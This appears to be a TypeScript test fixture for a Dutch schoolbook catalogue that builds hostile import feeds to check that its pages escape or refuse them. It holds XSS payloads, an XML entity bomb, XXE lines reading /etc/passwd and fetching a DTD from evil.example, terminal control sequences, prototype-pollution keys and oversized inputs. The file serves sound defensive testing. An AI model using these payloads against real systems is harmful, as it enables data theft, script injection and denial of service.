import { eanCheckDigit } from '#catalogue/ean.ts';
import { entry, placed } from './eck/eck.fixture.ts';

/** A feed that is meant to hurt: its name as a file, and its bytes. */
export type HostileFeed = { readonly name: string; readonly content: string | Uint8Array };

/** What must come out of no page as markup or code; each holds `mark`, so that it is found back. */
export const payloads = (mark: string): readonly string[] => [
  `<script>${mark}()</script>`,
  `"><img src=x onerror=${mark}()>`,
  `'-${mark}()-'`,
  `</title><script>${mark}()</script>`,
  `</script><script>${mark}()</script>`,
  `<!--<script>${mark}()`,
  `]]><svg onload=${mark}()>`,
  `\${${mark}()}{{${mark}()}}`,
  `<a href="javascript:${mark}()">x</a>`,
  `&lt;script&gt;${mark}()&lt;/script&gt;`,
];

/** The id, and EAN, of the product that carries the nth payload. */
export function hostileProductId(number: number): string {
  const first12 = `2898${String(number).padStart(8, '0')}`;
  return `${first12}${eanCheckDigit(first12)}`;
}

const educationTypes = [{ level: 'havo', grade: 4 }];

const scriptedProduct = (id: string, payload: string, place: object): object => ({
  kind: 'product',
  id,
  ean: id,
  title: `Boek ${payload}`,
  publisher: payload,
  image: payload,
  webText: payload,
  edition: payload,
  assembly: [],
  authors: [payload],
  learningPhases: [payload],
  educationTypes,
  articleGroup: payload,
  targetUsers: [payload],
  licence: { content: payload },
  ...place,
});

function scriptedRecords(mark: string): readonly object[] {
  return payloads(mark).flatMap((payload, number) => {
    const area = `Gebied ${number} ${payload}`;
    const [subject, method] = [`vak-${number}`, `methode-${number}`];
    return [
      { kind: 'area', name: area, position: number },
      { kind: 'subject', id: subject, area, name: `Vak ${payload}`, classificationId: subject },
      {
        kind: 'method',
        id: method,
        subjectId: subject,
        name: `Methode ${payload}`,
        classificationId: method,
        publisher: payload,
        description: payload,
        imageUrl: payload,
        educationTypes,
        characteristics: [],
      },
      scriptedProduct(hostileProductId(number), payload, { subjectIds: [subject], methodIds: [method] }),
    ];
  });
}

const tag = (name: string, ...content: readonly string[]): string => `<${name}>${content.join('')}</${name}>`;

/** An ONIX message with a record for each payload, in every text that visitors see. */
const scriptedMessage = (texts: readonly string[]): string =>
  tag(
    'ONIXMessage release="3.0"',
    ...texts.map((text, number) =>
      tag(
        'Product',
        tag('RecordReference', text),
        tag('NotificationType', '03'),
        tag('ProductIdentifier', tag('ProductIDType', '03'), tag('IDValue', hostileProductId(200 + number))),
        tag(
          'DescriptiveDetail',
          tag('TitleDetail', tag('TitleType', '01'), tag('TitleElement', tag('TitleText', `Titel ${text}`), tag('Subtitle', text))),
          tag('Contributor', tag('ContributorRole', 'A01'), tag('PersonName', text)),
          tag('EditionStatement', text),
          tag('Subject', tag('SubjectSchemeIdentifier', '24'), tag('SubjectSchemeName', 'Vak'), tag('SubjectHeadingText', text)),
        ),
        tag(
          'CollateralDetail',
          tag('TextContent', tag('TextType', '03'), tag('Text', text, `<p onclick="${number}">`, text, '</p><script>x()</script>')),
          tag('SupportingResource', tag('ResourceContentType', '01'), tag('ResourceVersion', tag('ResourceLink', text))),
        ),
        tag('PublishingDetail', tag('Publisher', tag('PublisherName', text))),
      ),
    ),
  ).replace('</ONIXMessage release="3.0">', '</ONIXMessage>');

const priceListHeaders = ['EAN', 'Titel', 'Uitgever', 'Auteur', 'Vak', 'Methode', 'Druk', 'Doelgroep', 'Omschrijving', 'Afbeelding'];

/** The rows of a price list with each text in every cell that visitors see, after a row of headers. The products have the numbers from `first` on. */
export const scriptedRows = (texts: readonly string[], first: number): readonly (readonly string[])[] => [
  priceListHeaders,
  ...texts.map((text, number) => [hostileProductId(first + number), ...priceListHeaders.slice(1).map(() => text)]),
];

const scriptedTable = (texts: readonly string[]): string =>
  scriptedRows(texts, 300)
    .map((row) => row.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(';'))
    .join('\n');

const bomb = (levels: number): string =>
  `<!DOCTYPE b [<!ENTITY e0 "${'a'.repeat(1_000)}">${Array.from({ length: levels }, (_, level) => `<!ENTITY e${level + 1} "${`&e${level};`.repeat(10)}">`).join('')}]>`;

/** XML that must be refused whole, before anything of it is read. */
export const declaringFeeds: readonly (readonly [name: string, document: string])[] = [
  ['an entity bomb', `${bomb(9)}<Entries>${entry('', '1', '&e9;')}</Entries>`],
  ['an external entity', `<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><Entries>${entry('', '1', '&x;')}</Entries>`],
  ['a parameter entity', '<!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]><Entries/>'],
];

/** Feeds of every kind of harm. `mark` is the name of a function that no page may call. */
export function hostileFeeds(mark: string): readonly HostileFeed[] {
  const xml = payloads(mark).map((payload) => payload.replaceAll('&', '&amp;').replaceAll('<', '&lt;'));
  const scripted = xml.map((payload, number) =>
    entry(
      `<Publisher>${payload}</Publisher><Description>${payload}</Description>${placed('NATUURKUNDE')}`,
      hostileProductId(100 + number),
      `Titel ${payload}`,
    ),
  );
  const product = {
    kind: 'product',
    id: 'x1',
    title: 'x',
    assembly: [],
    authors: [],
    learningPhases: [],
    educationTypes,
    targetUsers: [],
    subjectIds: [],
    methodIds: [],
  };
  const line = (change: object): string => JSON.stringify({ ...product, ...change });
  return [
    {
      name: 'scripts.ndjson',
      content: scriptedRecords(mark)
        .map((record) => JSON.stringify(record))
        .join('\n'),
    },
    { name: 'scripts.xml', content: `<Entries>${scripted.join('')}</Entries>` },
    { name: 'scripts.csv', content: scriptedTable(payloads(mark)) },
    { name: 'scripts-onix.xml', content: scriptedMessage(xml.map((payload) => payload.replaceAll('>', '&gt;'))) },
    { name: 'short-onix.xml', content: '<ONIXmessage release="3.1"><product><a001>1</a001><a002>04</a002></product></ONIXmessage>' },
    ...declaringFeeds.map(([name, content]) => ({ name: `${name.replaceAll(' ', '-')}.xml`, content })),
    {
      name: 'controls.ndjson',
      content: [line({ title: '\u001b[2J\u0007' }), line({ title: 'a\u202eb' }), line({ '\u001b]0;x\u0007': 1 })].join('\n'),
    },
    {
      name: 'controls.xml',
      content: `<Entries>${entry(`<ProductState>\u009b31m</ProductState>`, '9789006987904', 'a\u0085\u009b31mb')}</Entries>`,
    },
    { name: 'half-characters.ndjson', content: [line({ title: '\ud800' }), line({ webText: '\udc00' })].join('\n') },
    {
      name: 'long-fields.ndjson',
      content: [line({ title: 'x'.repeat(1_000_000) }), line({ webText: 'x '.repeat(900_000) }), `{"kind":"${'x'.repeat(5_000_000)}`].join(
        '\n',
      ),
    },
    { name: 'long-fields.csv', content: `EAN;Titel\n${hostileProductId(300)};"${'x'.repeat(3_000_000)}"\n` },
    {
      name: 'long-fields.xml',
      content: `<Entries>${entry(`<Description>${'x'.repeat(3_000_000)}</Description>`)}${entry('', '1', 'x'.repeat(200_000))}</Entries>`,
    },
    { name: 'deep.xml', content: '<a>'.repeat(200_000) },
    { name: 'deep.ndjson', content: `{"kind":"product","title":${'['.repeat(200_000)}` },
    { name: 'many-attributes.xml', content: `<Entries ${Array.from({ length: 100_000 }, (_, index) => `a${index}="1"`).join(' ')}/>` },
    {
      name: 'prototype.ndjson',
      content: '{"__proto__":{"kind":"product"},"constructor":{"prototype":1},"kind":"product"}\n{"kind":"__proto__"}',
    },
    { name: 'not-utf8.xml', content: Buffer.from([0x3c, 0x61, 0x3e, 0xff, 0xfe, 0x00, 0xd8]) },
    { name: 'nothing.xml', content: '' },
    { name: 'zeros.ndjson', content: Buffer.alloc(3_000_000) },
    { name: 'packed.xml', content: Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 0x4b]) },
  ];
}
